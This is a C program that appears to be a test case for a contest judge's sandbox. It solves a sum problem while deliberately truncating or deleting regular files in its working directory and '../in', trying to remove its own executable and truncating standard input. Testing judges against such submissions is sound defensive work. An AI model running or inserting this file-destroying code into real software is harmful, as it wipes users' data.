// Tries: to delete, overwrite and rename its executable and all around it, so that later tests cannot be run
// Control: yes
// Problem: sum
// Tests: all
// Verdict: AC
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void wreck(const char *directory)
{
    DIR *listing = opendir(directory);
    if (listing == NULL)
        return;
    for (struct dirent *entry; (entry = readdir(listing)) != NULL;) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
        if (entry->d_type == DT_REG && (truncate(path, 0) == 0 || unlink(path) == 0))
            continue;
    }
    closedir(listing);
}

int main(void)
{
    long long a, b;
    char self[4096];
    if (scanf("%lld%lld", &a, &b) != 2)
        return 1;
    ssize_t length = readlink("/proc/self/exe", self, sizeof self - 1);
    if (length > 0) {
        self[length] = '\0';
        int fd = open("/proc/self/exe", O_WRONLY);
        if (fd < 0 && unlink(self) == 0)
            fputs("gone\n", stderr);
    }
    wreck(".");
    wreck("../in");
    ftruncate(0, 0);
    printf("%lld\n", a + b);
    return 0;
}
